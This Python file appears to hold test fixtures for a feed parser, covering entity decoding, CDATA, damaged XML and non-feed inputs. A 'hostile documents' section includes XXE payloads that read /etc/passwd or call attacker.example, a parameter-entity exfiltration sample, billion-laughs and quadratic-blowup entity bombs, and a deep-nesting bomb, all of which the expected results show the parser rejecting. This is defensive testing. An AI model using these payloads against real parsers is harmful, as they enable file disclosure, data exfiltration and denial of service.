from common import *

x = doc('''
<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0">
<channel>
<title>Entities as real feeds write them</title>
<link>https://www.example-trade-news.com/</link>
<description>Caf&eacute; society &amp; trade</description>
<item>
<title>Caf&eacute; owners &mdash; and &ldquo;tariffs&rdquo;</title>
<link>https://www.example-trade-news.com/cafe</link>
<description>&lt;p&gt;Prices&nbsp;up&hellip;&lt;/p&gt; &copy; 2025 &unknownthing; end &amp;amp;</description>
</item>
<item>
<title>After an unknown entity, &amp; still decodes</title>
<link>https://www.example-trade-news.com/after</link>
<category>M&amp;A</category>
<category>&euro;</category>
</item>
</channel>
</rss>
''')
t1 = 'Café owners — and “tariffs”'
l1 = 'https://www.example-trade-news.com/cafe'
t2 = 'After an unknown entity, & still decodes'
l2 = 'https://www.example-trade-news.com/after'
fixture('entities-html-undeclared', x, F('rss20', 'Entities as real feeds write them', 'https://www.example-trade-news.com/',
    'Café society & trade',
    None,
    [at(x, 'Caf&eacute;') + ": undeclared HTML entity '&eacute;' decoded",
     at(x, 'Caf&eacute;', 2) + ": undeclared HTML entity '&eacute;' decoded",
     at(x, '&mdash;') + ": undeclared HTML entity '&mdash;' decoded",
     at(x, '&ldquo;') + ": undeclared HTML entity '&ldquo;' decoded",
     at(x, '&rdquo;') + ": undeclared HTML entity '&rdquo;' decoded",
     at(x, '&nbsp;') + ": undeclared HTML entity '&nbsp;' decoded",
     at(x, '&hellip;') + ": undeclared HTML entity '&hellip;' decoded",
     at(x, '&copy;') + ": undeclared HTML entity '&copy;' decoded",
     at(x, '&unknownthing;') + ": Entity 'unknownthing' not defined",
     at(x, '&euro;') + ": undeclared HTML entity '&euro;' decoded"],
    [E(fid(l1, t1), t1, l1, summary='<p>Prices\u00a0up…</p> © 2025  end &amp;'),
     E(fid(l2, t2), t2, l2, categories=['M&A', '€'])]))

x = doc('''
<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0">
<channel>
<title>Numeric references</title>
<link>https://www.example-trade-news.com/</link>
<item>
<title>China&#8217;s exports &#x2014; up 12&#160;&#37; &#x1F4C8;</title>
<link>https://www.example-trade-news.com/exports?a=1&#38;b=2</link>
<description>&#38;lt;b&#38;gt;bold&#38;lt;/b&#38;gt; &#x3C;i&#x3E;it&#x3C;/i&#x3E;</description>
</item>
<item>
<title>Bad references &#0; &#xD800; &#x110000; gone</title>
<link>https://www.example-trade-news.com/bad</link>
</item>
</channel>
</rss>
''')
t1 = 'China’s exports — up 12 % 📈'
l1 = 'https://www.example-trade-news.com/exports?a=1&b=2'
t2 = 'Bad references gone'
l2 = 'https://www.example-trade-news.com/bad'
fixture('entities-numeric', x, F('rss20', 'Numeric references', 'https://www.example-trade-news.com/', None, None,
    [at(x, '&#0;') + ': xmlParseCharRef: invalid xmlChar value 0',
     at(x, '&#xD800;') + ': xmlParseCharRef: invalid xmlChar value 55296',
     at(x, '&#x110000;') + ': xmlParseCharRef: character reference out of bounds'],
    [E(fid(l1, t1), t1, l1, summary='&lt;b&gt;bold&lt;/b&gt; <i>it</i>'),
     E(fid(l2, t2), t2, l2)]))

x = doc('''
<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0">
<channel>
<title><![CDATA[Reuters <b>Trade</b>]]></title>
<link><![CDATA[ https://www.reuters.com/markets/ ]]></link>
<description><![CDATA[Markets & trade]]></description>
<item>
<title><![CDATA[Tariffs & <i>markets</i>]]> today</title>
<link>https://www.reuters.com/markets/tariffs-today</link>
<description><![CDATA[<p>Stocks fell.</p>]]><![CDATA[<p>A second section; ]]]]><![CDATA[> ends one.</p>]]></description>
<guid isPermaLink="false"><![CDATA[reuters-2025-04-03-tariffs]]></guid>
<category><![CDATA[Markets &amp; Trade]]></category>
</item>
</channel>
</rss>
''')
fixture('cdata', x, F('rss20', 'Reuters Trade', 'https://www.reuters.com/markets/', 'Markets & trade', None, [],
    [E('reuters-2025-04-03-tariffs', 'Tariffs & markets today', 'https://www.reuters.com/markets/tariffs-today',
       summary='<p>Stocks fell.</p><p>A second section; ]]> ends one.</p>',
       categories=['Markets &amp; Trade'])]))

x = doc('''
<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0">
<channel>
<title>Q & A on trade</title>
<link>https://www.tradeqa.example/?feed=rss&format=full</link>
<item>
<title>AT&T and T-Mobile face tariff costs</title>
<link>https://www.tradeqa.example/article?id=7&lang=en</link>
<description>Telecoms & tariffs: M&A slows.</description>
<category>M&A</category>
</item>
<item>
<title>After the damage: &amp; and &lt; still decode</title>
<link>https://www.tradeqa.example/article?id=8</link>
</item>
</channel>
</rss>
''')
l1 = 'https://www.tradeqa.example/article?id=7&lang=en'
t1 = 'AT&T and T-Mobile face tariff costs'
l2 = 'https://www.tradeqa.example/article?id=8'
t2 = 'After the damage: & and < still decode'
fixture('damage-stray-ampersand', x, F('rss20', 'Q & A on trade', 'https://www.tradeqa.example/?feed=rss&format=full', None, None,
    [at(x, 'Q &') + ': xmlParseEntityRef: no name',
     at(x, '&format') + ": EntityRef: expecting ';'",
     at(x, 'AT&T') + ": EntityRef: expecting ';'",
     at(x, '&lang') + ": EntityRef: expecting ';'",
     at(x, 'Telecoms &') + ': xmlParseEntityRef: no name',
     at(x, 'M&A') + ": EntityRef: expecting ';'",
     at(x, 'M&A', 2) + ": EntityRef: expecting ';'"],
    [E(fid(l1, t1), t1, l1, summary='Telecoms & tariffs: M&A slows.', categories=['M&A']),
     E(fid(l2, t2), t2, l2)]))

x = doc('''
<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0">
<channel>
<title>Japan Times Business</title>
<link>https://www.japantimes.co.jp/business/</link>
<item>
<title>Ishiba vows to protect jobs</title>
<link>https://www.japantimes.co.jp/business/2025/04/04/ishiba-jobs/</link>
</item>
<item>
<title>Yen rises on tariff fears</title>
<link>https://www.japantimes.co.jp/business/2025/04/05/yen/</link>
<description>The yen <b>rose sharply</description>
</item>
<item>
<title>Swallowed by the damage</title>
<link>https://www.japantimes.co.jp/business/2025/04/06/lost/</link>
</item>
</channel>
</rss>
''')
l1 = 'https://www.japantimes.co.jp/business/2025/04/04/ishiba-jobs/'
t1 = 'Ishiba vows to protect jobs'
l2 = 'https://www.japantimes.co.jp/business/2025/04/05/yen/'
t2 = 'Yen rises on tariff fears'
fixture('damage-unclosed-tag', x, F('rss20', 'Japan Times Business', 'https://www.japantimes.co.jp/business/', None, None,
    [at(x, '</description>') + ': Opening and ending tag mismatch: b line 13 and description',
     at(x, '</item>', 2) + ': Opening and ending tag mismatch: description line 13 and item',
     at(x, '</channel>') + ': Opening and ending tag mismatch: item line 10 and channel',
     at(x, '</rss>') + ': Opening and ending tag mismatch: channel line 3 and rss',
     # libxml2's push parser calls an unfinished document "extra content".
     at(x, '</rss>') + ': Extra content at the end of the document'],
    [E(fid(l1, t1), t1, l1),
     E(fid(l2, t2), t2, l2, summary='The yen <b>rose sharply</b>')]))

x = doc('''
<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0">
<channel>
<title>Straits Times World</title>
<link>https://www.straitstimes.com/world</link>
<item>
<title>Singapore to seek exemption</title>
<link>https://www.straitstimes.com/world/singapore-exemption</link>
</item>
</channel>
</rss>
<p>Served by nginx</p>
<!-- cache: HIT -->
''')
l = 'https://www.straitstimes.com/world/singapore-exemption'
t = 'Singapore to seek exemption'
fixture('damage-garbage-after-root', x, F('rss20', 'Straits Times World', 'https://www.straitstimes.com/world', None, None,
    [at(x, '</rss>\n') + ': Extra content at the end of the document'],
    [E(fid(l, t), t, l)]))

# ---------------------------------------------------------------- hostile documents
x = doc('''
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE rss [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<rss version="2.0">
<channel>
<title>Trade bulletin</title>
<link>https://bulletin.example/</link>
<item>
<title>Leak: &xxe;</title>
<link>https://bulletin.example/1</link>
<description>&xxe;</description>
</item>
</channel>
</rss>
''')
fixture('xxe-file', x, F('rss20', 'Trade bulletin', 'https://bulletin.example/', None, None,
    [at(x, '&xxe;') + ": Entity 'xxe' not defined", at(x, '&xxe;', 2) + ": Entity 'xxe' not defined"],
    [E(fid('https://bulletin.example/1', 'Leak:'), 'Leak:', 'https://bulletin.example/1')]))

x = doc('''
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE feed SYSTEM "http://attacker.example/atom.dtd" [
  <!ENTITY xxe SYSTEM "http://attacker.example/collect?data=1">
]>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>Trade bulletin &xxe;</title>
  <id>tag:bulletin.example,2025:feed</id>
  <updated>2025-04-01T00:00:00Z</updated>
  <entry>
    <title>Entry</title>
    <id>tag:bulletin.example,2025:1</id>
    <updated>2025-04-01T00:00:00Z</updated>
    <content type="html">&xxe;&lt;p&gt;kept&lt;/p&gt;</content>
  </entry>
</feed>
''')
fixture('xxe-http', x, F('atom10', 'Trade bulletin', None, None, '2025-04-01T00:00:00Z',
    [at(x, '&xxe;') + ": Entity 'xxe' not defined", at(x, '&xxe;', 2) + ": Entity 'xxe' not defined"],
    [E('tag:bulletin.example,2025:1', 'Entry', updated='2025-04-01T00:00:00Z', content='<p>kept</p>')]))

x = doc('''
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE rss [
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
  %remote;
  %init;
]>
<rss version="2.0">
<channel>
<title>Parameter entities</title>
<link>https://bulletin.example/</link>
<item>
<title>Exfiltrate &exfil;</title>
<guid isPermaLink="false">pe-1</guid>
</item>
</channel>
</rss>
''')
fixture('xxe-parameter-entity', x, F('rss20', 'Parameter entities', 'https://bulletin.example/', None, None,
    [at(x, '%remote;') + ': PEReference: %remote; not found',
     at(x, '&exfil;') + ": Entity 'exfil' not defined"],
    [E('pe-1', 'Exfiltrate')]))

x = doc('''
<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0">
<channel>
<title>Billion laughs &lol9;</title>
<link>https://laughs.example/</link>
<item>
<title>Still parsed</title>
<link>https://laughs.example/1</link>
<description>&lol9;&lol9;</description>
</item>
</channel>
</rss>
''')
fixture('billion-laughs', x, F('rss20', 'Billion laughs', 'https://laughs.example/', None, None,
    [at(x, '&lol9;') + ": Entity 'lol9' not defined",
     at(x, '&lol9;', 2) + ": Entity 'lol9' not defined",
     at(x, '&lol9;', 3) + ": Entity 'lol9' not defined"],
    [E(fid('https://laughs.example/1', 'Still parsed'), 'Still parsed', 'https://laughs.example/1')]))

# One 50 KB entity referenced 50,000 times, 100 references a line.
big = 'A' * 50000
refs = '\n'.join('&a;' * 100 for _ in range(500))
x = doc('''
<?xml version="1.0"?>
<!DOCTYPE rss [
<!ENTITY a "%s">
]>
<rss version="2.0">
<channel>
<title>Quadratic blowup</title>
<link>https://blowup.example/</link>
<item>
<title>Still parsed</title>
<link>https://blowup.example/1</link>
<description>%s</description>
</item>
</channel>
</rss>
''') % (big, refs)
QUADRATIC = x
quad_errors = []
line0 = x.count('\n', 0, x.index('&a;')) + 1
for k in range(100):
    quad_errors.append('line %d, column %d: Entity \'a\' not defined' % (line0, len('<description>') + 3 * (k + 1) + 1))
# Past 10,000 entity references, libxml2 adds "Detected an entity reference
# loop" to each undeclared one: 50,000 + 40,000 errors, 100 of them listed.
quad_errors.append('... 89900 more')
fixture('quadratic-blowup', x, F('rss20', 'Quadratic blowup', 'https://blowup.example/', None, None, quad_errors,
    [E(fid('https://blowup.example/1', 'Still parsed'), 'Still parsed', 'https://blowup.example/1')]))

# 10,000 nested elements: libxml2 stops at its depth limit (256).
x = doc('''
<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0">
<channel>
<title>Depth bomb</title>
<link>https://depth.example/</link>
<item>
<title>Before the bomb</title>
<link>https://depth.example/1</link>
</item>
<item>
<title>The bomb</title>
<link>https://depth.example/2</link>
<x:deep xmlns:x="urn:x">%s%s</x:deep>
</item>
</channel>
</rss>
''') % ('<d>' * 10000, '</d>' * 10000)
fixture('damage-deep-nesting', x, F('rss20', 'Depth bomb', 'https://depth.example/', None, None,
    # libxml2 2.9's push parser has no depth limit of its own; retl applies
    # libxml2's (256) and reports it at the '>' of the start tag too deep.
    [at(x, '<d>' * 252 + '<d') + ': elements nested deeper than 256: the rest is ignored'],
    [E(fid('https://depth.example/1', 'Before the bomb'), 'Before the bomb', 'https://depth.example/1')]))

# ---------------------------------------------------------------- not feeds
fixture('notfeed-empty-file', '', err='not an RSS or Atom feed (no XML root element)')
fixture('notfeed-html-page', doc('''
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Office of the United States Trade Representative</title>
</head>
<body>
<h1>Press Releases</h1>
<p>This page has moved.</p>
</body>
</html>
'''), err='not an RSS or Atom feed (root element <html>)')
fixture('notfeed-xhtml-page', doc('''
<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>WTO | News</title></head><body><p>RSS moved</p></body></html>
'''), err='not an RSS or Atom feed (root element <html>)')
fixture('notfeed-json', doc('''
{"version": "https://jsonfeed.org/version/1.1", "title": "Trade JSON Feed", "items": [{"id": "1", "title": "Tariffs"}]}
'''), err='not an RSS or Atom feed (no XML root element)')
fixture('notfeed-plain-text', 'Service Temporarily Unavailable\n\nThe server is down for maintenance.\n',
        err='not an RSS or Atom feed (no XML root element)')
fixture('notfeed-sitemap', doc('''
<?xml version="1.0" encoding="UTF-8"?>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
<url><loc>https://ustr.gov/</loc><lastmod>2025-04-01</lastmod></url>
</urlset>
'''), err='not an RSS or Atom feed (root element <urlset>)')

# HTML entities in attribute values: libxml2 copies a "predefined" entity's
# first byte only, so these must come through whole another way.
x = doc('''
<?xml version="1.0" encoding="UTF-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>Secretar&iacute;a de Econom&iacute;a</title>
  <id>tag:economia.gob.mx,2025:feed</id>
  <updated>2025-03-05T18:00:00Z</updated>
  <entry>
    <title>Aranceles: respuesta de M&eacute;xico</title>
    <id>tag:economia.gob.mx,2025:aranceles</id>
    <updated>2025-03-05T18:00:00Z</updated>
    <link rel="alternate" href="https://www.gob.mx/se/prensa/respuesta&#45;de&#45;m&eacute;xico"/>
    <category term="comercio&nbsp;exterior" label="Comercio exterior"/>
    <category term="" label="Pol&iacute;tica comercial"/>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><abbr title="Tratado entre M&eacute;xico, Estados Unidos y Canad&aacute;">T&#45;MEC</abbr> &mdash; <a href="https://www.gob.mx/t-mec?a=1&amp;b=&laquo;2&raquo;">texto</a></div></content>
  </entry>
</feed>
''')
fixture('entities-html-in-attributes', x, F('atom10', 'Secretaría de Economía', None, None, '2025-03-05T18:00:00Z',
    [at(x, 'Secretar&iacute;') + ": undeclared HTML entity '&iacute;' decoded",
     at(x, 'Econom&iacute;') + ": undeclared HTML entity '&iacute;' decoded",
     at(x, 'M&eacute;') + ": undeclared HTML entity '&eacute;' decoded",
     at(x, 'm&eacute;') + ": undeclared HTML entity '&eacute;' decoded",
     at(x, '&nbsp;') + ": undeclared HTML entity '&nbsp;' decoded",
     at(x, 'Pol&iacute;') + ": undeclared HTML entity '&iacute;' decoded",
     at(x, 'M&eacute;', 2) + ": undeclared HTML entity '&eacute;' decoded",
     at(x, 'Canad&aacute;') + ": undeclared HTML entity '&aacute;' decoded",
     at(x, '&mdash;') + ": undeclared HTML entity '&mdash;' decoded",
     at(x, '&laquo;') + ": undeclared HTML entity '&laquo;' decoded",
     at(x, '&raquo;') + ": undeclared HTML entity '&raquo;' decoded"],
    [E('tag:economia.gob.mx,2025:aranceles', 'Aranceles: respuesta de México',
       'https://www.gob.mx/se/prensa/respuesta-de-méxico', None, None, '2025-03-05T18:00:00Z',
       content='<abbr title="Tratado entre México, Estados Unidos y Canadá">T-MEC</abbr> — '
               '<a href="https://www.gob.mx/t-mec?a=1&amp;b=«2»">texto</a>',
       categories=['comercio exterior', 'Política comercial'])]))
fixture('notfeed-html5-page', doc('''
<!doctype html>
<html lang="zh-CN">
<head><meta charset="utf-8"><title>中华人民共和国商务部</title></head>
<body><p>页面已迁移</p></body>
</html>
'''), err='not an RSS or Atom feed (an HTML page)')
fixture('notfeed-rdf-foaf', doc('''
<?xml version="1.0" encoding="UTF-8"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:foaf="http://xmlns.com/foaf/0.1/">
<foaf:Organization rdf:about="https://ustr.gov/#org">
<foaf:name>Office of the United States Trade Representative</foaf:name>
<foaf:homepage rdf:resource="https://ustr.gov/"/>
</foaf:Organization>
</rdf:RDF>
'''), err='not an RSS or Atom feed (root element <RDF>)')
